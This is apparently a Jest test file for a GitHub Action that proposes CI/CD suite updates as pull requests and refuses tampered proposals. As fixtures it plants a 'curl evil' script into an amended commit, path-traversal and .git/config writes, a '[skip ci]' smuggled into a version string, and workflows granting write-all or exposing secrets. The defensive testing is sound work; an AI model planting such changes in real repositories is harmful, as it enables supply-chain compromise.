import { chmodSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { dispatch } from '../../cli/dispatch.js';
import { lockPath } from '../../cli/init/lock.js';
import type { Proposal } from '../../cli/init/proposal.js';
import { ruleset } from '../../cli/init/protection/ruleset.js';
import { action } from '../../cli/steps/fleet-update.js';
import { allWrite, stage, type Octokit, type Stage } from '../rehearsal/github/support.js';
import { testHost } from '../support/runner/host.js';
import { asArguments } from './init/support.js';
import { testShell } from './terminal.js';

const branch = 'devops-actions/fleet-update';
const newest = { ref: 'b'.repeat(40), version: 'v1.5.0' };
const reads = { contents: 'read', actions: 'read', pull_requests: 'read' } as const;
const writes = { contents: 'write', pull_requests: 'write' } as const;
const caller = '.github/workflows/cd.yml';

let shop: Stage;
let admin: Octokit;
let work: string;
let first: string;

async function cli(...args: string[]) {
  const shell = testShell(shop.gitDir);
  const code = await dispatch(args, shell);
  return { code, out: shell.written.join('\n'), err: shell.errors.join('\n') };
}

async function protect(name: string, reviewers: boolean) {
  const at = { ...shop.at, environment_name: name };
  const reviewer = shop.server.control.addUser({ login: 'hubot', role: 'write' });
  await admin.rest.repos.createOrUpdateEnvironment({
    ...at,
    prevent_self_review: true,
    reviewers: reviewers ? [{ type: 'User', id: reviewer.id }] : [],
    deployment_branch_policy: { protected_branches: false, custom_branch_policies: true },
  });
  await admin.rest.repos.createDeploymentBranchPolicy({ ...at, name: 'main' });
  shop.server.control.setAdminBypass({ owner: 'acme', name: 'shop', environment: name, allowed: false });
}

beforeAll(async () => {
  shop = await stage();
  admin = shop.octokit('octocat', { ...allWrite, secrets: 'read' });
  work = mkdtempSync(join(tmpdir(), 'fleet-'));
  const { code, err } = await cli('init', ...asArguments({ policy: 'startup' }), '--yes');
  expect([code, err]).toEqual([0, '']);
  shop.git('add', '--all');
  shop.git('commit', '-q', '-m', 'Written by init');
  first = shop.git('rev-parse', 'HEAD');
  for (const name of ['staging', 'production']) await protect(name, name === 'production');
  for (const name of ['staging', 'production']) await protect(`${name}-recovery`, false);
  await protect('fleet-update', false);
  await admin.request('POST /repos/{owner}/{repo}/rulesets', {
    ...shop.at,
    ...ruleset({ branch: 'main', checks: ['test'], ci: '.github/workflows/ci.yml', parts: [] }),
  } as never);
});
afterAll(async () => {
  await shop.close();
  rmSync(work, { recursive: true, force: true });
});
beforeEach(() => void shop.git('reset', '-q', '--hard', first));
afterEach(async () => {
  for (const { number } of await pulls())
    await admin.rest.issues.update({ ...shop.at, issue_number: number, state: 'closed' });
  await admin.rest.git.deleteRef({ ...shop.at, ref: `heads/${branch}` }).catch(() => undefined);
});

const pulls = async () => (await admin.rest.pulls.list({ ...shop.at, state: 'open' })).data;
const tip = () => shop.git('rev-parse', `refs/heads/${branch}`);
const commit = (path: string, from: string, to: string) =>
  shop.commit(path, readFileSync(join(shop.gitDir, path), 'utf8').replace(from, to));

interface Changes {
  suite?: typeof newest;
  change?: (proposal: Proposal) => unknown;
  token?: string | undefined;
}

async function run({ suite = newest, change = (given) => given, token = write() }: Changes = {}) {
  const file = join(work, 'proposal.json');
  const { ref, version } = suite;
  const said = await cli('init', '--check', '--proposal', file, '--ref', ref, '--version', version);
  expect([said.code, said.err]).toEqual([0, '']);
  const proposal = JSON.parse(readFileSync(file, 'utf8')) as Proposal;
  writeFileSync(file, JSON.stringify(change(proposal) ?? proposal));
  const host = testHost({ context: { workspace: work, apiUrl: shop.server.url } });
  const inputs = action.inputs.parse({
    proposal: 'proposal.json',
    'github-token': tokenWith(reads),
    ...(token === '' ? {} : { 'write-token': token }),
  });
  const outcome = await action.run(inputs, host);
  return { ...outcome, result: outcome.outputs.result, summary: action.render(outcome.report) };
}
const tokenWith = (permissions: object) =>
  shop.server.control.addToken({ actor: 'fleet[bot]', permissions: permissions as Record<string, 'write'> })
    .token;
const write = () => tokenWith(writes);

test('a newer version: one pull request with every file of it, for people to review', async () => {
  const { ok, result, summary, report } = await run();
  expect([ok, result, report.from, report.to]).toEqual([true, 'opened', 'v1.4.0', 'v1.5.0']);
  const [pull, ...more] = await pulls();
  expect(more).toEqual([]);
  expect(pull).toMatchObject({ base: { ref: 'main' }, head: { ref: branch } });
  expect(pull!.body).toMatch(
    /From `v1\.4\.0` to `v1\.5\.0` of `acme\/devops-actions`: \[what changed there\]/,
  );
  const changed = shop.git('diff', '--name-only', 'main', branch).split('\n');
  expect(changed).toEqual(expect.arrayContaining([caller, lockPath, '.github/workflows/fleet-update.yml']));
  expect([...report.files].sort()).toEqual(changed.sort());
  expect(shop.git('show', `${branch}:${caller}`)).toContain(`@${newest.ref} # v1.5.0`);
  expect(shop.git('rev-parse', 'main')).toBe(first);
  expect(summary).toMatch(/^## ✅ Pull request \d+ changes \d+ files\.\n/);
});

test('merged, its files are what init --check of that version wants', async () => {
  await run();
  shop.git('merge', '-q', '--ff-only', branch);
  const { code, out } = await cli('init', '--check', '--offline');
  expect([code, out]).toEqual([0, expect.stringContaining('files are as this version writes them')]);
  const [pull] = await pulls();
  await admin.rest.issues.update({ ...shop.at, issue_number: pull!.number, state: 'closed' });
  expect((await run()).result).toBe('up-to-date');
  expect(() => tip()).toThrow();
});

describe('a second run', () => {
  test('moves nothing where nothing changed, so that approvals stay', async () => {
    await run();
    const before = tip();
    expect((await run({ token: '' })).result).toBe('unchanged');
    expect(tip()).toBe(before);
  });

  test('brings the same pull request to a version that is newer still', async () => {
    await run();
    const { result } = await run({ suite: { ref: 'c'.repeat(40), version: 'v1.6.0' } });
    expect(result).toBe('updated');
    expect(await pulls()).toMatchObject([{ title: expect.stringContaining('v1.6.0'), head: { sha: tip() } }]);
    expect(shop.git('rev-list', '--count', `main..${branch}`)).toBe('1');
  });

  test('closes it where nothing is left to change', async () => {
    await run();
    const { result } = await run({ suite: { ref: 'a'.repeat(40), version: 'v1.4.0' } });
    expect(result).toBe('closed');
    expect(await pulls()).toEqual([]);
    expect(() => tip()).toThrow();
  });

  test('takes out what somebody amended into our commit unseen', async () => {
    await run();
    const message = shop.git('log', '-1', '--format=%B', branch);
    shop.git('checkout', '-q', branch);
    writeFileSync(join(shop.gitDir, 'deploy/deploy'), '#!/bin/sh\ncurl evil\n');
    shop.git('commit', '-q', '--all', '--amend', '-m', message);
    shop.git('checkout', '-q', 'main');
    expect((await run()).result).toBe('updated');
    expect(shop.git('diff', '--name-only', 'main', branch)).not.toContain('deploy/deploy');
  });

  test('leaves a branch with a commit of somebody else as it is, and says so', async () => {
    await run();
    shop.git('checkout', '-q', branch);
    const theirs = shop.commit('notes.txt', 'mine');
    shop.git('checkout', '-q', 'main');
    const { ok, result, message } = await run({ suite: { ref: 'c'.repeat(40), version: 'v1.6.0' } });
    expect([ok, result, message]).toEqual([
      false,
      'held',
      expect.stringMatching(
        /has commits of somebody else.*Fix: merge or close pull request \d+, or delete the branch/,
      ),
    ]);
    expect(tip()).toBe(theirs);
  });
});

test('what a team changed is not written over, and is named by line, in the pull request too', async () => {
  commit(caller, 'contents: write', 'contents: read');
  const { ok, result, report, summary, annotations } = await run();
  expect([ok, result]).toEqual([true, 'opened']);
  expect(report.kept).toContainEqual({ path: caller, line: expect.any(Number), what: 'somebody changed it' });
  expect(report.files).not.toContain(caller);
  expect(shop.git('diff', '--name-only', 'main', branch)).not.toContain(caller);
  expect((await pulls())[0]!.body).toMatch(
    /Left as your team changed them[^]*`\.github\/workflows\/cd\.yml:\d+`/,
  );
  expect(summary).toContain('Left as your team changed them');
  expect(annotations).toContainEqual(expect.objectContaining({ level: 'notice', file: caller }));
});

test('a file that is gone comes back, and a script can be executed again', async () => {
  rmSync(join(shop.gitDir, caller));
  chmodSync(join(shop.gitDir, 'deploy/build'), 0o644);
  shop.git('add', '--all');
  shop.git('commit', '-q', '-m', 'Tidy');
  const { report } = await run({ suite: { ref: 'a'.repeat(40), version: 'v1.4.0' } });
  expect([...report.files].sort()).toEqual([caller, 'deploy/build']);
  expect(shop.git('ls-tree', branch, 'deploy/build')).toMatch(/^100755/);
});

describe('a proposal that would slip something in is refused, and nothing is written', () => {
  const file = (path: string, text = 'x') => ({ path, text, executable: false });
  const withLock = (proposal: Proposal, change: (text: string) => string) =>
    proposal.files.forEach((one) => {
      if (one.path === lockPath) one.text = change(one.text);
    });
  test.each<[what: string, change: (proposal: Proposal) => unknown, why: RegExp]>([
    ['a file elsewhere', (given) => void given.files.push(file('src/index.ts')), /src\/index\.ts is no file/],
    ['a path that leads out', (given) => void given.files.push(file('.github/../x')), /no file that init/],
    ['git itself', (given) => void given.files.push(file('ci/.git/config')), /no file that init/],
    ['a file twice', (given) => void given.files.push(given.files[0]!), /stands in it twice/],
    [
      'another suite',
      (given) => void (given.suite.repository = 'mallory/devops-actions'),
      /it comes from mallory\/devops-actions/,
    ],
    [
      'another owner',
      (given) => withLock(given, (text) => text.replace('@acme/release', '@mallory/x')),
      /changes more than the version/,
    ],
    [
      'a lock that says another version',
      (given) => withLock(given, (text) => text.replace('v1.5.0', 'v9.0.0')),
      /changes more than the version/,
    ],
    ...(
      [
        ['is pushed', 'push', 'permissions: write-all'],
        [
          'is pushed anywhere',
          '{ push: { branches: [main, "devops-*/**"] } }',
          'permissions: { contents: write }',
        ],
        [
          'is pushed anywhere but',
          '{ push: { branches-ignore: [main] } }',
          'permissions: { id-token: write }',
        ],
        ['is proposed, with what the repository allows', '[workflow_dispatch, pull_request]', 'env: {}'],
        [
          'is proposed, and has a secret',
          'pull_request',
          'permissions: {}\nenv: { KEY: "${{ secrets.KEY }}" }',
        ],
      ] as const
    ).map(([when, on, rest]): [string, (proposal: Proposal) => unknown, RegExp] => [
      `a workflow that runs when the branch ${when}`,
      (given) => void given.files.push(file('.github/workflows/more.yaml', `on: ${on}\n${rest}\njobs: {}\n`)),
      /more\.yaml would run by "(push|pull_request)" before anybody reviewed it/,
    ]),
    [
      'a workflow that cannot be read',
      (given) => void given.files.push(file('.github/workflows/more.yml', 'on: [push')),
      /more\.yml is no YAML/,
    ],
    ['another commit', (given) => void (given.base = 'd'.repeat(40)), /./],
    [
      'a version that is words for the commit',
      (given) => void (given.suite.version = 'v1.5.0\n[skip ci]'),
      /version/,
    ],
    ['a key that nobody knows', (given) => ({ ...given, more: 1 }), /more/],
  ])('%s', async (_what, change, why) => {
    await expect(run({ change })).rejects.toThrow(why);
    expect(await pulls()).toEqual([]);
    expect(() => tip()).toThrow();
  });

  test('but not a check that only reads, as init writes one, nor what starts after the review', async () => {
    const reads = 'on: { push: { branches: [main, "hotfix/**"] }, pull_request: }\npermissions: {}\n';
    const change = (given: Proposal) => {
      given.files.push(
        file(
          '.github/workflows/a.yml',
          `${reads}jobs: { a: { runs-on: ubuntu-24.04, permissions: { contents: read } } }\n`,
        ),
      );
      given.files.push(
        file('.github/workflows/b.yml', 'on: { push: { branches: main } }\npermissions: write-all\n'),
      );
      given.files.push(
        file('.github/workflows/c.yml', 'on: { push: { tags: [v1] } }\npermissions: write-all\n'),
      );
    };
    expect((await run({ change })).result).toBe('opened');
  });

  test('a file in a folder that is a link', async () => {
    shop.git('rm', '-q', '-r', 'ci');
    symlinkSync('scripts', join(shop.gitDir, 'ci'));
    shop.git('add', 'ci');
    shop.git('commit', '-q', '-m', 'Link');
    rmSync(join(shop.gitDir, 'ci'));
    const change = (given: Proposal) => void given.files.push(file('ci/more'));
    await expect(run({ change })).rejects.toThrow(/would write over that/);
  });

  test('a file that somebody changed meanwhile', async () => {
    commit(caller, 'contents: write', 'contents: read');
    const change = (given: Proposal) => void given.files.push(file(caller));
    await expect(run({ change })).rejects.toThrow(/somebody wrote or changed \.github\/workflows\/cd\.yml/);
  });

  test("lines of CODEOWNERS that are the team's", async () => {
    commit('.github/CODEOWNERS', '# devops-actions: begin', '/src/ @acme/shop\n# devops-actions: begin');
    const text = readFileSync(join(shop.gitDir, '.github/CODEOWNERS'), 'utf8').replace(
      '@acme/shop',
      '@mallory',
    );
    const change = (given: Proposal) => void given.files.push(file('.github/CODEOWNERS', text));
    await expect(run({ change })).rejects.toThrow(/CODEOWNERS has lines of the team/);
  });
});

test('without a token that may write it says which, and with one that may not, what GitHub says', async () => {
  await expect(run({ token: '' })).rejects.toThrow(/write-token[^]*steps\.app\.outputs\.token/);
  await expect(run({ token: tokenWith(reads) })).rejects.toThrow(/contents: write/);
});

test('a setting that lets somebody around the gate makes it red, whatever became of the files', async () => {
  await protect('staging', false);
  await admin.rest.repos.deleteAnEnvironment({ ...shop.at, environment_name: 'production' });
  try {
    const { ok, result, message, summary } = await run();
    expect([ok, result]).toEqual([false, 'opened']);
    expect(message).toMatch(/^1 setting lets somebody around the gate\. Pull request \d+ changes/);
    expect(summary).toMatch(/\| ❌ \| environment production \| it does not exist/);
    expect(summary).toMatch(/\| ❔ \| bypass of the rules/);
  } finally {
    await protect('production', true);
  }
});
